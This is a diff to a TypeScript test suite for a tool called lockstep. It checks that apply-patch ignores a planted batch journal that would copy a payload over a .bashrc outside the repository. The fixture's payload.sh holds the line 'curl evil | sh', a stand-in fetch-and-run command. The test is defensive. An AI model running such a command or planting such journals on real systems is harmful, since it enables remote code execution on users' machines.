@@ -190,7 +190,7 @@ describe("lockstep config", () => {
 });
 
 describe("lockstep apply-patch and the batch journal", () => {
-  const PLANT = (outside: string, root: string, pid: number) =>
+  const PLANT = (outside: string, root: string) =>
     JSON.stringify({ version: 1, state: "committed", entries: [{ target: path.join(outside, ".bashrc"), temp: path.join(root, "payload.sh") }, { target: path.join(root, "keep.txt"), temp: null }] });
 
   it("never follows a journal committed in the working tree, dry run or not", async () => {
@@ -198,7 +198,7 @@ describe("lockstep apply-patch and the batch journal", () => {
     const outside = await repository({ ".bashrc": "# mine\n" });
     const root = await repository({ "payload.sh": "curl evil | sh\n", "keep.txt": "k\n", "a.txt": "a\n" });
     const dead = Number(execFileSync(process.execPath, ["-e", "process.stdout.write(String(process.pid))"], { encoding: "utf8" }));
-    await fs.writeFile(path.join(root, `.lockstep-batch.${dead}-abcdef01.json`), PLANT(outside, root, dead));
+    await fs.writeFile(path.join(root, `.lockstep-batch.${dead}-abcdef01.json`), PLANT(outside, root));
     const diff = "--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-a\n+A\n";
     expect((await run(["apply-patch", "--dry-run", "--json"], root, env, diff)).status).toBe(0);
     expect((await run(["apply-patch", "--json"], root, env, diff)).status).toBe(0);
